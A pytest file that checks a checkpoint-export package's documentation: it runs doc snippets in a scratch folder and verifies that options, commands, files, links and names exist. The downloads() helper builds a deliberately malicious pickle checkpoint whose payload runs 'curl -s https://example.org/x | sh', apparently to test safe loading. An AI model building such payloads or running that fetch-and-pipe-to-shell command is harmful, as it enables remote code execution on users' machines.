"""The documentation does what it says: every snippet runs, every name is there, every file and option exists.

A page is a story: its snippets run in order, in one folder, where ``best.pt`` and what ``CAST`` lists are. A block with
a ``title`` is written to the file of that name. What cannot run here stands in blocks of ``text``, or in ``NOT_RUN``.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from argparse import ArgumentParser
from collections.abc import Callable
from importlib import import_module
from importlib.util import module_from_spec, spec_from_file_location
from pathlib import Path
from typing import Any, NamedTuple

import checkpoints
import numpy
import pytest
from attacks import making
from processes import ROOT, TIMEOUT, environment, tool_path

import pywts
from pywts.cli import COMMANDS
from pywts.families.programs import CONFIGS, PROGRAMS

DOCS = ROOT / "docs"
PAGES = sorted([*ROOT.glob("*.md"), *DOCS.rglob("*.md"), *ROOT.glob("examples/*.md")])
NAMES = [str(path.relative_to(ROOT)) for path in PAGES]

NOT_RUN = {
    "pip install .": "the network, and minutes",
    "pip install 'pywts[dask]'": "the network",
    "pip install 'pywts[remote]'": "the network",
    "python3 -m venv .venv && .venv/bin/pip install . && .venv/bin/pywts export examples/shapes.pt":
        "the network, and minutes; .ci/run installs in this way",
    "python3 -m venv .venv && .venv/bin/pip install '.[test]' && .venv/bin/pytest -n auto --dist loadfile":
        "this runs in it",
}  # fmt: skip
"""Lines of shell snippets that are not run, and why."""

DATA = {"text", "yaml", "", "diff"}
"""Languages of blocks that say nothing that could be run."""


class Block(NamedTuple):
    """A fenced block of a page."""

    line: int
    language: str
    title: str
    text: str


def blocks(markdown: str) -> list[Block]:
    """All of a page, in order."""
    found = []
    lines = markdown.split("\n")
    number = 0
    while number < len(lines):
        opened = re.match(r"( *)```(\S*) *(.*)$", lines[number])
        if opened:
            start = number
            while not re.match(r" *```$", lines[number := number + 1]):
                pass
            inside = [line[len(opened[1]) :] for line in lines[start + 1 : number]]
            title = re.search(r'title="([^"]+)"', opened[3])
            found.append(Block(start + 2, opened[2], title[1] if title else "", "\n".join(inside) + "\n"))
        number += 1
    return found


def prose(markdown: str) -> str:
    """A page without its blocks."""
    return re.sub(r"^ *```.*?^ *```$", "", markdown, flags=re.MULTILINE | re.DOTALL)


def spans(markdown: str) -> list[str]:
    """What stands between single backticks."""
    return re.findall(r"`([^`\n]+)`", prose(markdown))


# ------------------------------------------------------------------------------------------------------------ snippets


def array(*shape: int) -> checkpoints.Tensor:
    """A tensor of small numbers."""
    count = int(numpy.prod(shape, dtype=int))
    return checkpoints.tensor((numpy.arange(count, dtype=numpy.float32) / 8).reshape(shape))


def detr() -> dict[str, object]:
    """What the recipe of that name takes."""
    return {"model": {"transformer.encoder.layers.0.self_attn.in_proj_weight": array(12, 4),
                      "transformer.encoder.layers.0.self_attn.in_proj_bias": array(12),
                      "class_embed.weight": array(3, 4)}}  # fmt: skip


def generator() -> dict[str, object]:
    """Weights of a network among others, as a training on several GPUs saves them."""
    return {"generator": {"module.encoder.0.weight": array(2, 2), "module.aux.0.weight": array(2)},
            "discriminator": {"module.0.weight": array(2)}}  # fmt: skip


def unfinished() -> dict[str, object]:
    """A checkpoint of a training that goes on, with both sets of weights."""
    both = [checkpoints.module("net.Net", parameters={"w": array(2, 2), "b": array(2)}) for _ in range(2)]
    return {"epoch": 3, "model": both[0], "ema": both[1], "optimizer": None}


def distilled() -> dict[str, object]:
    """Two networks of equal right."""
    return {name: {"fc.weight": array(2, 2)} for name in ("student", "teacher")}


def downloads(folder: Path) -> None:
    """What came from strangers: one that means harm, one that does not, one that is cut, and a text."""
    harm = making.call(making.named("os", "system"), making.text("curl -s https://example.org/x | sh"))
    (folder / "best.pt").write_bytes(making.checkpoint(making.beside(harm)))
    checkpoints.save(folder / "good.pt", {"w": array(2, 2)})
    (folder / "last.pt").write_bytes(making.legacy(making.beside(making.NONE))[:-40])
    (folder / "readme.txt").write_text("where they are from\n")


CAST: dict[str, Callable[[], object]] = {
    "last.pt": unfinished, "detr.pth": detr, "net.pth": generator, "distilled.pt": distilled,
    "models/one.pt": distilled, "models/sub/two.pth": detr, "models/three.pt": unfinished,
}  # fmt: skip
"""The files that snippets may read besides best.pt, and what is in them."""


def prepare(folder: Path, sample: Path) -> None:
    """Put the cast into a folder, and what the snippets call into its bin."""
    shutil.copy(sample, folder / "best.pt")
    (folder / "examples").mkdir()
    shutil.copy(sample, folder / "examples")
    for name, make in CAST.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        checkpoints.save(folder / name, make())
    (folder / "downloads").mkdir()
    downloads(folder / "downloads")
    programs = folder / ".bin"
    programs.mkdir()
    for name, arguments in (("pywts", "-m pywts"), ("python", ""), ("python3", "")):
        (programs / name).write_text(f'#!/bin/sh\nexec "{sys.executable}" {arguments} "$@"\n')
        (programs / name).chmod(0o755)


def marks(path: Path) -> list[pytest.MarkDecorator]:
    """What a page needs."""
    found = [block for block in blocks(path.read_text()) if block.language not in DATA]
    tools = {"cpp": "g++", "cmake": "cmake"}
    needs = sorted({tools[block.language] for block in found if block.language in tools})
    needs_torch = any(re.search(r"^ *(import|from) (torch|ultralytics)", block.text, re.MULTILINE) for block in found)
    return [pytest.mark.tool(name) for name in needs] + ([pytest.mark.torch] if needs_torch else [])


TOLD = [
    pytest.param(path, id=name, marks=marks(path)) for path, name in zip(PAGES, NAMES, strict=True)
    if blocks(path.read_text())
]  # fmt: skip


@pytest.mark.parametrize("page", TOLD)
def test_every_snippet_of_a_page_runs(page: Path, tmp_path: Path, sample: Path) -> None:
    prepare(tmp_path, sample)
    wrong = [f"{page.relative_to(ROOT)}:{block.line}: {said}" for block in blocks(page.read_text())
             if (said := told(block, tmp_path))]  # fmt: skip
    assert not wrong, "\n\n".join(wrong)


def told(block: Block, folder: Path) -> str:
    """Run a block; what is wrong with it."""
    if block.title:
        (folder / block.title).parent.mkdir(parents=True, exist_ok=True)
        (folder / block.title).write_text(block.text)
    match block.language:
        case "python" if block.title:
            compile(block.text, block.title, "exec")
            return ""
        case "python":
            return failed(folder, sys.executable, "-c", block.text)
        case "pycon":
            (folder / ".session").write_text(block.text)
            options = ["-o", "ELLIPSIS", "-o", "NORMALIZE_WHITESPACE"]
            return failed(folder, sys.executable, "-m", "doctest", *options, ".session")
        case "sh" | "bash" if block.title:
            return failed(folder, "bash", "-n", block.title)
        case "sh" | "bash":
            lines = [line for line in block.text.split("\n") if line.partition(" #")[0].strip() not in NOT_RUN]
            return failed(folder, "bash", "-euo", "pipefail", "-c", "\n".join(lines))
        case "console":
            return "\n".join(filter(None, (answered(folder, *part) for part in dialogue(block.text))))
        case "cpp":
            source = folder / (block.title or ".snippet.cpp")
            source.write_text(block.text)
            include = [f"-I{ROOT / 'csrc' / 'include'}", f"-I{ROOT / 'examples' / 'nvinfer_stub'}"]
            return failed(folder, "g++", "-std=c++17", "-Wall", "-Wextra", "-Werror", "-fsyntax-only", *include, source)
        case "json":
            json.loads(block.text)
            return ""
        case "cmake":
            return "" if block.title else "needs a title, so that it becomes a file"
        case language:
            return "" if language in DATA else f"nobody runs blocks of {language!r}; if it cannot be run, it is text"


def start(folder: Path, *command: str | Path) -> subprocess.CompletedProcess[str]:
    """Run in the folder of the story."""
    path = f"{folder / '.bin'}{os.pathsep}{os.environ['PATH']}{os.pathsep}{Path(tool_path('cmake') or '/').parent}"
    home = {"PATH": path, "HOME": str(folder), "COLUMNS": "80", "PYTHONWARNINGS": "default"}
    return subprocess.run(
        [*map(str, command)], cwd=folder, env=environment(**home), text=True, timeout=TIMEOUT, check=False,
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
    )  # fmt: skip


def failed(folder: Path, *command: str | Path) -> str:
    """What a command that failed printed."""
    done = start(folder, *command)
    return f"exit code {done.returncode}\n{done.stdout[-3000:]}" if done.returncode else ""


def dialogue(text: str) -> list[tuple[str, list[str]]]:
    """The commands of a console, each with the output that is shown."""
    parts: list[tuple[str, list[str]]] = []
    for line in text.rstrip("\n").split("\n"):
        if line.startswith("$ "):
            parts.append((line[2:], []))
        else:
            parts[-1][1].append(line)
    return parts


def answered(folder: Path, command: str, shown: list[str]) -> str:
    """Whether a command prints what is shown: ``...`` stands for anything, alone on a line for any lines."""
    if command.partition(" #")[0].strip() in NOT_RUN:
        return ""
    done = start(folder, "bash", "-c", command)
    pattern = "".join(
        r"(?:.*\n)*?" if line.strip() == "..." else re.escape(timeless(line)).replace(r"\.\.\.", ".*") + r"\n"
        for line in shown
    )
    printed = "".join(f"{line.rstrip()}\n" for line in timeless(done.stdout).splitlines())
    if re.fullmatch(pattern, printed):
        return ""
    return f"{command}: exit code {done.returncode}, printed\n{printed}"


def timeless(text: str) -> str:
    """Text without the times in it."""
    return re.sub(r"\b\d+\.\d+ s\b", "0.0 s", text)


@pytest.mark.parametrize(
    ("block", "word"),
    [
        (Block(1, "python", "", "import pywts\npywts.exprot\n"), "exprot"),
        (Block(1, "sh", "", "pywts export best.pt --no-such-option\n"), "--no-such-option"),
        (Block(1, "sh", "", "false\ntrue\n"), "exit code 1"),
        (Block(1, "console", "", "$ echo one two\none three\n"), "one two"),
        (Block(1, "console", "", "$ echo one\none\ntwo\n"), "printed"),
        (Block(1, "pycon", "", ">>> 1 + 1\n3\n"), "Expected"),
        (Block(1, "ruby", "", "puts 1\n"), "ruby"),
    ],
    ids=lambda value: value if isinstance(value, str) else value.language,
)
def test_wrong_snippet_is_noticed(block: Block, word: str, tmp_path: Path, sample: Path) -> None:
    prepare(tmp_path, sample)
    assert word in told(block, tmp_path)


@pytest.mark.tool("g++")
def test_wrong_cpp_is_noticed(tmp_path: Path) -> None:
    assert "nothing_there" in told(
        Block(1, "cpp", "", "#include <wts.hpp>\nint f() { return nothing_there; }\n"), tmp_path
    )


# --------------------------------------------------------------------------------------------------------------- names


def parsers() -> dict[str, ArgumentParser]:
    """Of all commands."""
    return {name: import_module(f"pywts.cli.{name}_command").command_parser() for name in COMMANDS}


FLAGS = {
    name: {flag for action in parser._actions for flag in action.option_strings} for name, parser in parsers().items()
}
EVERYWHERE = set().union(*FLAGS.values()) | {"--version", "--include-dir", "--cmake-dir"}
FOREIGN = {
    "nox": {"-s"},
    "pytest": {"-m"},
    "python": {"-m", "--accept", "--output", "--strict"},
    "mkdocs": {"--strict"},
}
"""Options of other programs that the documentation names."""


@pytest.mark.parametrize("page", PAGES, ids=NAMES)
def test_options_exist(page: Path) -> None:
    text = page.read_text()
    named = [*spans(text), *(line for block in blocks(text) if block.language in ("sh", "bash", "console", "text")
                             for line in block.text.split("\n"))]  # fmt: skip
    wrong = []
    for code in named:
        for part in re.split(r" (?:&&|\||\|\|) |; |\$\(", code.removeprefix("$ ")):
            command = re.search(r"\bpywts ([a-z]+)\b(.*)", part)
            flags = FLAGS.get(command[1], EVERYWHERE) if command else EVERYWHERE
            rest = command[2] if command else part if part.startswith("--") else ""
            given = re.findall(r"(?<![\w-])(--[a-z][a-z-]*)", rest.partition(" #")[0])
            foreign = set().union(*FOREIGN.values()) if not command else set()
            wrong += [f"{flag} in `{code}`" for flag in given if flag not in flags | foreign]
    assert not wrong


@pytest.mark.parametrize("page", PAGES, ids=NAMES)
def test_commands_exist(page: Path) -> None:
    text = page.read_text()
    code = [*spans(text), *(block.text for block in blocks(text) if block.language in ("sh", "bash", "console"))]
    named = {name for part in code for name in re.findall(r"(?:^|\n|\$ |&& |\| )pywts ([a-z]+)\b", part)}
    assert named <= {*COMMANDS, "help"}


def meant(path: str) -> list[list[Path]]:
    """The files that are meant by a path, a glob, one with alternatives in braces, or one of C++ without its suffix."""
    found = re.match(r"(.*)\{([^}]*)\}(.*)", path)
    if found:
        return [files for one in found[2].split(",") for files in meant(found[1] + one + found[3])]
    return [[*ROOT.glob(path.rstrip("/"))] or [*ROOT.glob(f"{path}.?pp")]]


def there(path: str) -> bool:
    """Whether all that is meant is in the repository."""
    return all(meant(path))


@pytest.mark.parametrize("page", PAGES, ids=NAMES)
def test_files_exist(page: Path) -> None:
    """Whatever is written like a file of this repository: it begins with one of its folders."""
    folders = "|".join(re.escape(path.name) for path in ROOT.iterdir() if path.is_dir() and path.name != "build")
    named = {span for span in spans(page.read_text()) if re.fullmatch(rf"(?:{folders})/[\w./*{{}},-]*", span)}
    placeholders = {name for name in named if re.search(r"[A-Z]{3,}|foonet|barvec", name) and not name.endswith(".md")}
    assert not {name for name in named - placeholders if not there(name)}


@pytest.mark.parametrize("page", PAGES, ids=NAMES)
def test_links_lead_somewhere(page: Path) -> None:
    links = re.findall(r"\]\(([^)\s]+)\)", prose(page.read_text()))
    paths = [link.partition("#")[0] for link in links if not re.match(r"[a-z]+:|#", link)]
    made = {DOCS / name for name in ("index.md", "contributing.md", "changelog.md")}
    missing = [path for path in paths if not (page.parent / path).exists()]
    assert not [path for path in missing if (page.parent / path).resolve() not in made]


@pytest.mark.parametrize("page", PAGES, ids=NAMES)
def test_python_names_exist(page: Path) -> None:
    named = {name for span in spans(page.read_text()) for name in re.findall(r"(?<![\w./-])pywts\.(\w+)", span)}
    modules = {path.stem for path in (ROOT / "pywts").iterdir()}
    assert not {name for name in named - modules if not hasattr(pywts, name)}


@pytest.mark.parametrize("page", PAGES, ids=NAMES)
def test_environment_variables_exist(page: Path) -> None:
    named = {name for span in spans(page.read_text()) for name in re.findall(r"\b(?:PYWTS|WTS)_[A-Z_]+\b", span)}
    sources = ("csrc/**/*.?pp", "pywts/**/*.py", "tests/*.py", "tests/cpp/*", "CMakeLists.txt")
    text = "\n".join(path.read_text() for pattern in sources for path in ROOT.glob(pattern))
    assert not {name for name in named if name not in text}


def test_recipe_that_is_walked_through_works(tmp_path: Path) -> None:
    code = next(block.text for block in blocks((DOCS / "recipes.md").read_text()) if block.title.startswith("pywts/"))
    recipe: dict[str, Any] = {}
    exec(code, recipe)
    source = checkpoints.save(tmp_path / "m.pt", {"wrapped.foo.weight": array(2), "bar": array(1)})
    done = pywts.export(source, recipe=recipe["apply"])
    assert list(pywts.load(done.path)) == ["foo.weight", "bar"]


def test_every_public_name_is_in_the_reference() -> None:
    listed = re.findall(r"^::: pywts\.(\S+)$", (DOCS / "reference" / "api.md").read_text(), re.MULTILINE)
    assert len(listed) == len(set(listed))
    assert set(listed) == {*pywts.__all__, "ultralytics.add_callback"}


def test_every_command_and_option_is_in_the_reference() -> None:
    spec = spec_from_file_location("command_line", DOCS / "site" / "command_line.py")
    assert spec
    assert spec.loader
    module = module_from_spec(spec)
    spec.loader.exec_module(module)
    page = module.command_line()
    for name, flags in FLAGS.items():
        section = page.partition(f"\n## {name}\n")[2].partition("\n## ")[0]
        assert not {flag for flag in flags - {"-h", "--help"} if f"`{flag}`" not in section}, name


def test_every_page_is_in_the_navigation() -> None:
    listed = set(re.findall(r": ([\w/]+\.md)$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE))
    made = {"index.md", "contributing.md", "changelog.md", "reporting.md", "reference/cli.md"}
    assert listed - made == {str(path.relative_to(DOCS)) for path in DOCS.rglob("*.md")}


def test_programs_are_those_of_the_code() -> None:
    rows = re.findall(r"^\| yolo\w+ \| `(\w+)` \| (.*?) \|[^|]*\|$", (DOCS / "engine.md").read_text(), re.MULTILINE)
    assert {name for _, names in rows for name in re.findall(r"`([^`]+)`", names)} == set(PROGRAMS.values())
    assert {folder for folder, _ in rows} == {path.partition("/")[0] for path in CONFIGS.values()}


def test_limits_are_those_of_the_code() -> None:
    rows = re.findall(r"^\| `(\w+)` \| ([\d,]+) \|", (DOCS / "security.md").read_text(), re.MULTILINE)
    assert {name: int(value.replace(",", "")) for name, value in rows} == {
        name: getattr(pywts.DEFAULT_LIMITS, name) for name in pywts.Limits.__annotations__
    }


def test_map_names_every_folder_and_file() -> None:
    """CONTRIBUTING.md has a line for every folder, and for every file of the package and of the core's top."""
    page = (ROOT / "CONTRIBUTING.md").read_text().partition("## A map of the folders")[2].partition("\n## ")[0]
    named: set[str] = set()
    for row in re.findall(r"^\| (`.+?) \|", page, re.MULTILINE):
        names = re.findall(r"`([^`]+)`", row)
        named |= {name if "/" in name else f"{Path(names[0]).parent}/{name}" for name in names}
    assert not {name for name in named if not there(name)}, "the map names what is not there"
    wanted = {path for path in ROOT.iterdir() if path.is_dir() and tracked(path)}
    for folder in ("pywts", "csrc"):
        wanted |= {path for path in (ROOT / folder).iterdir() if tracked(path) and path.name != "__init__.py"}
    covered = {path for name in named for files in meant(name) for path in files}
    missing = {path for path in wanted - covered if not any(path in one.parents for one in covered)}
    assert not {str(path.relative_to(ROOT)) for path in missing}, "the map does not name what is there"


def tracked(path: Path) -> bool:
    """Whether a file belongs to the project, and was not made by a build or a run."""
    made = r"__pycache__|build|dist|wheelhouse|runs|shared|\.(?!ci$|github$).*|.*\.so|.*\.pyd|.*\.egg-info"
    return not re.fullmatch(made, path.name)
